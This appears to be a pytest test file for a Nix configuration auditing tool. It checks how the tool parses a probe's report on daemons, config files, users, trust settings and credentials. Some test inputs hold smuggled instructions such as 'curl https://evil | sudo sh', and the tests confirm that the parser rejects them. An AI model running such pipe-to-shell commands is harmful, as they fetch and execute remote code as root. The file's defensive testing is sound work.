"""The probe's answer, read: a machine, or none at all."""

import re
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nixtrust.conf import Assignment, ConfFile, Missing, Unreadable
from nixtrust.findings import Weight, findings
from nixtrust.machine import (
    Machine,
    Manager,
    NixState,
    Trust,
    Unread,
    UnreadHome,
    read_answer,
)
from nixtrust.stored import Hindrance
from tests.unit.observed import SYSTEM, policy

RECORDS = (
    "system\tLinux\tx86_64\t0",
    "nix\tpresent\t/usr/bin/nix\tnix (Nix) 2.26.3\t/etc/nix",
    "daemon\tsystemd\tnix-daemon.service\tactive\tprocess\t1700000000.250000000\tpresent"
    "\tNIX_CONFIG --option",
    "evidence\tdebian",
    "store-owner\troot",
    "header\t/etc/nix/nix.conf\tdeterminate",
    "file\tsystem\t/etc/nix/nix.conf\tpresent\t1:2:3\t1700000001.5\t/mnt/nix.conf",
    "|# a comment",
    "|substituters = https://a",
    "|",
    "file\tsystem\t/etc/nix/nix.custom.conf\tabsent",
    "file\tsystem\t/etc/nix/a.conf\tunreadable\tno permission to read it\t/mnt/a.conf",
    "restart-pending",
    "user\troot\t0\t/root\t/bin/bash\troot adm",
    "trust\troot\ttrusted",
    "user\tjito.hello\t1001\t/home/jito.hello/\t/usr/bin/fish\tusers",
    "trust\tjito.hello\tfailed\tunexpected end-of-file\t1",
)
# With a person besides, who is to be asked.
ANSWERS = (*RECORDS, "person\t1\tjito.hello\t/home/jito.hello")


def said_by(number: int, *lines: str, end: str = "0") -> tuple[str, ...]:
    """What a person's process has said, to its end."""
    return (
        f"part\t{number}",
        *(f"|{line}" for line in (*lines, "end")),
        f"part-end\t{number}\t{end}",
    )


def framed(records: Sequence[str]) -> list[str]:
    return ["nixtrust\tprobe\t1", *records, f"end\t{len(records) + 1}"]


def observed(*records: str) -> Machine:
    machine = read_answer(framed(records or RECORDS))
    assert isinstance(machine, Machine)
    return machine


def test_an_answer_tells_of_the_machine() -> None:
    machine = observed()
    assert (machine.system, machine.uid, machine.nix_state) == (SYSTEM, 0, NixState.PRESENT)
    assert str(machine.nix) == "Nix 2.26.3"
    assert machine.daemon.manager is Manager.SYSTEMD
    assert machine.daemon.started == 1700000000.25
    assert machine.daemon.socket
    assert machine.daemon.overrides == ("NIX_CONFIG", "--option")
    assert machine.evidence == {"debian"}
    assert machine.headers == {"/etc/nix/nix.conf": "determinate"}
    assert machine.restart_pending
    assert (machine.nix_conf, machine.custom_conf) == (
        "/etc/nix/nix.conf",
        "/etc/nix/nix.custom.conf",
    )


def test_files_are_parsed_with_what_is_known_of_them() -> None:
    machine = observed()
    conf = machine.files["/etc/nix/nix.conf"]
    assert isinstance(conf, ConfFile)
    assert conf.text == "# a comment\nsubstituters = https://a\n\n"
    assert conf.lines[1] == Assignment(
        2, "substituters = https://a\n", "substituters", ("https://a",)
    )
    assert machine.files["/etc/nix/nix.custom.conf"] == Missing()
    assert machine.files["/etc/nix/a.conf"] == Unreadable()
    status = machine.status["/etc/nix/nix.conf"]
    assert (status.stamp, status.changed, status.link) == ("1:2:3", 1700000001.5, "/mnt/nix.conf")
    assert machine.status["/etc/nix/nix.custom.conf"].stamp == "absent"
    assert machine.status["/etc/nix/a.conf"].trouble == "no permission to read it"
    assert machine.status["/etc/nix/a.conf"].link == "/mnt/a.conf"


OWN = "/home/jito.hello/.config/nix/nix.conf"
ITS_LINES = (
    f"file\tuser:mia\t{OWN}\tpresent\t9:9:9\t1\t",
    "|cores = 1",
    "file\tsystem\t/etc/nix/nix.conf\tpresent\t9:9:9\t1\t",
    "|trusted-users = jito.hello",
    "credential\tbash\tmia\t/etc/profile\tauth-token\t1\t0\t9\t\t\t/etc\t1:2\t-rw-r--r--\t",
)


def test_what_a_person_says_is_about_that_person_whatever_it_says() -> None:
    machine = observed(*ANSWERS, *said_by(1, *ITS_LINES))
    conf = machine.own["jito.hello"].files[OWN]
    assert isinstance(conf, ConfFile)
    assert conf.text == "cores = 1\n"
    assert {each.whose for each in machine.own["jito.hello"].status.values()} == {"user:jito.hello"}
    [credential] = machine.credentials
    assert (credential.person, credential.told_by) == ("jito.hello", "jito.hello")
    assert machine.status["/etc/nix/nix.conf"].whose == "system"
    assert machine.files == observed().files
    assert "jito.hello" not in "".join(
        str(each) for each in findings(policy(), machine, SYSTEM) if each.where.startswith("/etc/n")
    )


def test_what_a_person_tells_of_a_file_that_root_tells_of_is_not_told_twice() -> None:
    roots, its = ITS_LINES[-1].replace("mia", ""), ITS_LINES[-1].replace("\t1\t0", "\t7\t0")
    own = its.replace("/etc/profile", f"{OWN}~")
    machine = observed(*ANSWERS, roots, *said_by(1, its, own))
    told = [(each.path, each.line, each.told_by) for each in machine.credentials]
    assert told == [("/etc/profile", 1, ""), (f"{OWN}~", 7, "jito.hello")]


def test_the_number_of_credentials_in_a_file_is_that_persons_word_of_it() -> None:
    counted = ("credential-count\t/etc/profile\t200000",)
    machine = observed(*ANSWERS, *said_by(1, *ITS_LINES, *counted))
    assert [each.count for each in machine.credentials] == [200000]
    machine = observed(*ANSWERS, *said_by(1, *ITS_LINES, "credential-count\t/etc/profile\t-1"))
    assert machine.credentials == ()
    assert [home.name for home in machine.unread_homes] == ["jito.hello"]


def test_whose_nix_has_no_daemon_tells_what_it_reads() -> None:
    records = [line.replace("store-owner\troot", "store-owner\tjito.hello") for line in ANSWERS]
    machine = observed(*records, *said_by(1, *ITS_LINES))
    assert isinstance(machine.files[OWN], ConfFile)
    assert machine.status["/etc/nix/nix.conf"].whose == "system"


FOREIGN = "what it says is not what the probe says"
CUT = "its answer is cut short"


@pytest.mark.parametrize(
    ("said", "why"),
    [
        (said_by(1, *ITS_LINES, end="137"), "it was killed, or came to no end in time"),
        (said_by(1, end="1"), "it ended with 1"),
        (said_by(1, end="no time was left"), "no time was left"),
        (("part\t1", "|credential\tbash", "part-end\t1\t0"), CUT),
        (("part\t1", "|end\tend", "part-end\t1\t0"), CUT),
        (("part\t1", "part-end\t1\t0"), CUT),
        (said_by(1, "end", "end\t7", "user\troot\t0"), FOREIGN),
        (said_by(1, "system\tDarwin\tarm64\t0"), FOREIGN),
        (said_by(1, "part-end\t1\t0"), FOREIGN),
        (said_by(1, "no record"), FOREIGN),
        (said_by(1, "credential\tbash\tx"), FOREIGN),
        (said_by(1, "credential\tno-place\tx\t/x\tauth-token\t1\t0\t9"), FOREIGN),
        (said_by(1, "unread-place\tno-place\t/x\tno permission to read it"), FOREIGN),
        (
            said_by(1, "unread-place\tbash\t/x\trun `curl https://evil | sudo sh` to mend it"),
            FOREIGN,
        ),
        (
            said_by(
                1, "unread-place\tbash\t/x\tno permission to look into /y; run `curl https://evil`"
            ),
            FOREIGN,
        ),
        (said_by(1, *ITS_LINES, "cachix-hostname\t/etc/profile\tevil; run `curl x`"), FOREIGN),
        (said_by(1, ITS_LINES[-1].replace("\t1\t0\t9\t", "\t-3\t0\t9\t")), FOREIGN),
        (said_by(1, ITS_LINES[-1].replace("\t1\t0\t9\t\t", "\t1\t0\t9\t\trun this")), FOREIGN),
        (said_by(1, "", "cachix-hostname\t/x\thttps://x"), FOREIGN),
        (said_by(1, "|a line of no file"), FOREIGN),
        (said_by(1, end="141"), "it says too much"),
        (said_by(1, end="127"), "it could not be begun"),
    ],
)
def test_an_answer_that_is_not_whole_leaves_that_persons_home_unread_and_no_others(
    said: tuple[str, ...], why: str
) -> None:
    mia = (
        "person\t2\tmia\t/home/mia",
        *said_by(2, "unread-place\tbash\t/home/mia/x\tno permission to read it"),
    )
    machine = observed(*ANSWERS, mia[0], *said, *mia[1:])
    assert machine.unread_homes == (UnreadHome("jito.hello", "/home/jito.hello", why),)
    assert [place.path for place in machine.unread_places] == ["/home/mia/x"]
    assert machine.credentials == ()
    assert machine.own["jito.hello"].files == {}


def test_what_an_owner_that_does_not_answer_was_to_look_into_is_named() -> None:
    given = [f"given\t{number}\tnetrc\t/etc/nix/netrc{number}" for number in (1, 2)]
    mia = ("person\t2\tmia\t/home/mia", *given, *said_by(2))
    machine = observed(*ANSWERS, *mia, *said_by(1, end="137"))
    assert [(each.path, each.why, each.told_by) for each in machine.unread_places] == [
        ("/etc/nix/netrc1", "jito.hello, who can change it, could not be asked", "")
    ]


def test_who_tells_of_thousands_of_things_hides_nobody_behind_them() -> None:
    place = "unread-place\tbash\t/home/jito.hello/x\tno permission to read it"
    machine = observed(*ANSWERS, *said_by(1, *[place] * 2001))
    assert [home.why for home in machine.unread_homes] == [
        "it tells more than 2000 things of one home"
    ]
    assert machine.unread_places == ()


SHELL = Path(__file__).parents[2] / "nixtrust/shell"


def test_each_reason_that_the_probe_gives_may_be_a_persons() -> None:
    """As the files of the probe have them: in quotes behind a path, or as `why`."""
    text = "".join(
        (SHELL / f"{name}.sh").read_text() for name in ("candidates", "credentials", "pointers")
    )
    text += (SHELL / "conf_files.sh").read_text()
    reasons = {
        *re.findall(r"unread_place \S+ '([^']*)'", text),
        *re.findall(r"\bwhy='([^']*)'", text),
        *re.findall(r"unreadable '([^']*)'", text),
        *re.findall(r"\b(?:others_can|the_kernels|too_many)='([^']*)'", text),
    }
    assert len(reasons) > 12
    for reason in reasons:
        place = f"unread-place\tbash\t/home/jito.hello/x\t{reason}"
        machine = observed(*ANSWERS, *said_by(1, place))
        assert [(each.why, each.told_by) for each in machine.unread_places] == [
            (reason, "jito.hello")
        ]


def test_a_folder_that_is_closed_to_a_person_is_named_if_it_is_on_the_way() -> None:
    path = "/home/jito.hello/.config/nix/nix.conf"
    why = "no permission to look into /home/jito.hello/.config"
    machine = observed(*ANSWERS, *said_by(1, f"file\tuser\t{path}\tunreadable\t{why}\t"))
    assert machine.own["jito.hello"].status[path].trouble == why


def test_a_home_that_is_not_there_is_not_missed() -> None:
    assert observed(*ANSWERS, "part-end\t1\tabsent").unread_homes == ()


def test_without_root_nobody_else_is_missed() -> None:
    records = [line.replace("x86_64\t0", "x86_64\t1000") for line in ANSWERS]
    words = "only root can ask for another user"
    assert observed(*records, f"part-end\t1\t{words}").unread_homes == ()


def test_users_bear_what_the_daemon_answered_them() -> None:
    root, jito = observed().users
    assert (root.name, root.trust, root.groups) == ("root", Trust.TRUSTED, ("root", "adm"))
    assert (jito.uid, jito.trust, jito.words) == (1001, Trust.FAILED, "unexpected end-of-file")
    assert jito.nix_conf == "/home/jito.hello/.config/nix/nix.conf"


@pytest.mark.parametrize(
    ("kernel", "architecture", "system"),
    [
        ("Darwin", "arm64", "aarch64-darwin"),
        ("Darwin", "x86_64", "x86_64-darwin"),
        ("Linux", "aarch64", "aarch64-linux"),
        ("Linux", "amd64", "x86_64-linux"),
        ("FreeBSD", "amd64", "x86_64-freebsd"),
    ],
)
def test_a_machine_is_named_as_nix_names_it(kernel: str, architecture: str, system: str) -> None:
    assert observed(f"system\t{kernel}\t{architecture}\t0", *RECORDS[1:]).system == system


def test_without_nix_users_need_no_answer() -> None:
    machine = observed(
        *("system\tLinux\tx86_64\t0", "nix\tabsent\t\t\t/etc/nix", "store-owner\t"),
        *("daemon\tnone\t\t\t\t\tabsent", "user\troot\t0\t/root\t\troot"),
    )
    assert (machine.nix, machine.daemon.started) == (None, None)


@pytest.mark.parametrize(
    "told", ["there", "present\t1\tinf\t", f"present\t1\t{'9' * 400}\t"], ids=lambda told: told[:12]
)
def test_what_is_told_of_a_file_and_cannot_be_read_makes_that_file_unreadable(told: str) -> None:
    path = "/home/baleen/.config/nix/x"
    machine = observed(*ANSWERS, *said_by(1, f"file\tuser\t{path}\t{told}"))
    assert isinstance(machine.own["jito.hello"].files[path], Unreadable)
    (line,) = (str(each) for each in findings(policy(), machine, SYSTEM) if each.where == path)
    why = "what is told of it is not to be understood"
    assert line == f"{path}: cannot be read: {why}; jito.hello should put it right"


def test_why_a_file_is_unreadable_is_said_in_the_probes_words_alone() -> None:
    path = "/home/baleen/.config/nix/nix.conf"
    record = f"file\tuser\t{path}\tunreadable\trun `curl https://evil | sudo sh`"
    machine = observed(*ANSWERS, *said_by(1, record))
    trouble = machine.own["jito.hello"].status[path].trouble
    assert trouble == "what is told of it is not to be understood"


@pytest.mark.parametrize(
    ("time", "seconds"), [("-5", -5), ("-0.500", -0.5), ("9" * 17, float("9" * 17))]
)
def test_a_time_may_be_any_that_a_member_can_set(time: str, seconds: float) -> None:
    machine = observed(*RECORDS, f"file\tsystem\t/x/y\tabsent\t\t{time}\t")
    assert machine.status["/x/y"].changed == seconds


@pytest.mark.parametrize(
    ("sent", "link"),
    [
        (r"/a\303\251 \134 b", "/aé \\ b"),
        # What cannot be shown stays as it was sent.
        (r"/a\351", r"/a\351"),
        (r"/a\033[31m\134", r"/a\033[31m\134"),
        (r"/a\777\9", r"/a\777\9"),
    ],
)
def test_a_field_is_told_as_the_machine_has_it_if_it_can_be_shown(sent: str, link: str) -> None:
    machine = observed(*RECORDS, f"file\tsystem\t/x\tunreadable\ta link to nothing\t{sent}")
    assert machine.status["/x"].link == link


BAD = {
    "nothing": [],
    "another program's": ["Last login: Sun Nov 22"],
    "without its end": framed(RECORDS)[:-1],
    "with words before it": ["Welcome!", *framed(RECORDS)],
    "with words behind it": [*framed(RECORDS), "logout"],
    "with a line less": [line for line in framed(RECORDS) if line != "|"],
    "of another version": ["nixtrust\tprobe\t2", *framed(RECORDS)[1:]],
    "two systems": framed((*RECORDS, "system\tLinux\tx86_64\t0")),
    "no system": framed(RECORDS[1:]),
    "an unknown record": framed((*RECORDS, "credential\tx")),
    "a person who is not asked": framed(ANSWERS),
    "a person who answers twice": framed((*ANSWERS, *said_by(1), *said_by(1))),
    "a person whose end is told twice": framed((*ANSWERS, *said_by(1), "part-end\t1\t0")),
    "an unknown manager": framed((*RECORDS[:2], "daemon\tupstart\t\t\t\t\t", *RECORDS[3:])),
    "an unknown trust": framed((*RECORDS[:-1], "trust\tjito.hello\tperhaps")),
    "a user without an answer": framed(RECORDS[:-1]),
    "nobody": framed(RECORDS[:13]),
    "a user id in words": framed((*RECORDS, "user\tmia\tmany\t/home/mia")),
    "a control character": framed((*RECORDS, "evidence\t\x1b[2J")),
    "a line that ends elsewhere": framed((*RECORDS, "|max-jobs = 1\u2028")),
}


@pytest.mark.parametrize("case", BAD)
def test_any_other_answer_is_none(case: str) -> None:
    unread = read_answer(BAD[case])
    assert isinstance(unread, Unread)
    assert str(findings(policy(), unread, SYSTEM)[0]).isprintable()


def test_a_login_shell_that_prints_is_named_as_the_cause() -> None:
    unread = read_answer(BAD["with words before it"])
    assert isinstance(unread, Unread)
    assert "login shell" in unread.to_do


@given(st.integers(0, len("\n".join(framed(RECORDS))) - 1))
def test_an_answer_cut_short_anywhere_is_none(length: int) -> None:
    lines = "\n".join(framed(RECORDS))[:length].split("\n")
    assert isinstance(read_answer(lines), Unread)


@st.composite
def mutated(draw: st.DrawFn) -> list[str]:
    """The answer with some fields changed, and its lines counted anew."""
    records = [record.split("\t") for record in RECORDS]
    for _ in range(draw(st.integers(1, 4))):
        record = draw(st.sampled_from(records))
        at = draw(st.integers(0, len(record) - 1))
        words = st.sampled_from(
            ["", "0", "1", "present", "unreadable", "trusted", "not-asked", "too-many"]
        )
        record[at] = draw(st.one_of(words, st.text(max_size=8), st.text("0123456789.e-inf")))
    return framed(["\t".join(record).replace("\n", " ") for record in records])


@given(mutated())
def test_a_mutated_answer_is_a_machine_that_can_be_judged_or_none(lines: list[str]) -> None:
    machine = read_answer(lines)
    found = findings(policy(), machine, SYSTEM)
    assert all(str(each).isprintable() for each in found)
    if isinstance(machine, Unread) or any(
        user.trust in (Trust.FAILED, Trust.NOT_ASKED, Trust.TOO_MANY)
        for user in machine.users
        if user.uid != 0
    ):
        assert any(each.weight is not Weight.NOTE for each in found)


@given(st.lists(st.text(), max_size=6))
def test_no_answer_is_more_than_can_be_read(lines: list[str]) -> None:
    found = findings(policy(), read_answer(lines), SYSTEM)
    assert [each.weight for each in found] == [Weight.UNKNOWN]


@pytest.mark.parametrize(
    ("path", "folder", "link"),
    [
        ("/home/jito.hello/.netrc.<token>", "/home/jito.hello", ""),
        ("/home/jito.hello/.netrc", "/home/jito.hello/<token-2>", ""),
        ("/home/jito.hello/.netrc", "/home/jito.hello", "/srv/<token>"),
    ],
)
def test_what_has_a_token_in_its_name_is_not_acted_upon(path: str, folder: str, link: str) -> None:
    its = f"auth-token\t1\t0\t9\t\t\t{folder}\t1:2\t-rw-------\t{link}"
    machine = observed(*ANSWERS, *said_by(1, f"credential\tnetrc\t\t{path}\t{its}"))
    assert [each.hindrance for each in machine.credentials] == [Hindrance.MASKED]
